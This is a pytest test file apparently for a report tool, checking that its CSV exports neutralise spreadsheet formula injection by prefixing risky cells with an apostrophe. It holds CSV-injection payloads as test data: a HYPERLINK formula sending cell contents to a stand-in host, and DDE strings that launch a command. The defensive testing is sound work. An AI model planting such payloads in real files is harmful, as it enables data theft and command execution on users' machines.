"""The report's CSV exports carry no live spreadsheet formula (issue 43): a text cell that starts with
= + - @, a tab or a carriage return is written with a leading apostrophe; numbers stay numbers.

    pytest tests/test_report_exports.py
"""

from __future__ import annotations

import csv
import io
import math
from dataclasses import replace

import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from _report_fixtures import STUDY_NAME, make_study
from grpo_ablate.report.data import build_report_data
from grpo_ablate.report.records import load_trials
from grpo_ablate.report.summary import FORMULA_STARTS, csv_text, write_exports

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def _no_formula(rows: list[list[str]]) -> bool:
    """Every cell that starts like a formula is a plain number (a spreadsheet reads -0.5 as a number)."""
    return all(not c.startswith(FORMULA_STARTS) or _is_number(c) for row in rows for c in row)


text_cells = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n,\"' aZ1(")), max_size=12)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(text_cells, min_size=1, max_size=6), numbers=st.lists(
    st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1, max_size=6), name=text_cells)
def test_no_export_cell_is_a_formula_and_text_survives(texts, numbers, name):
    n = max(len(texts), len(numbers))
    frame = pd.DataFrame({name or "c": (texts * n)[:n], "value": (numbers * n)[:n],
                          "mixed": [(texts + numbers)[i % (len(texts) + len(numbers))] for i in range(n)]})
    rows = _cells(csv_text(frame))
    assert _no_formula(rows)
    header, body = rows[0], rows[1:]
    assert header[1:] == ["value", "mixed"]
    for i, row in enumerate(body):
        shown = row[0]
        original = frame.iloc[i, 0]
        assert shown == ("'" + original if original.startswith(FORMULA_STARTS) else original)  # the text, unchanged
        assert float(row[1]) == numbers[i % len(numbers)] or math.isclose(float(row[1]), numbers[i % len(numbers)])


def test_every_csv_export_of_a_report_neutralises_formulas(tmp_path):
    storage, _ = make_study(tmp_path)
    attrs, frozen = load_trials(storage, STUDY_NAME)
    data = build_report_data(STUDY_NAME, attrs, frozen, storage_url=storage)
    prompts = data.prompts.copy()
    prompts["prompt"] = [ATTACKS[i % len(ATTACKS)] for i in range(len(prompts))]
    steps = data.steps.copy()
    steps["=cmd|' /C calc'!A0"] = "@SUM(1)"  # a user-named column (a reward's name) and its text
    records = [replace(r, reason=ATTACKS[0]) for r in data.records]
    paths = write_exports(replace(data, prompts=prompts, steps=steps, records=records), tmp_path / "out")
    for role in ("trials_csv", "steps_csv", "prompts_csv"):
        with open(paths[role], encoding="utf-8", newline="") as f:
            rows = _cells(f.read())
        assert len(rows) > 1 and _no_formula(rows), role
    written = pd.read_csv(paths["prompts_csv"])
    # the text a person labels, one apostrophe more
    assert sorted(written["prompt"]) == sorted("'" + ATTACKS[i % len(ATTACKS)] for i in range(len(prompts)))
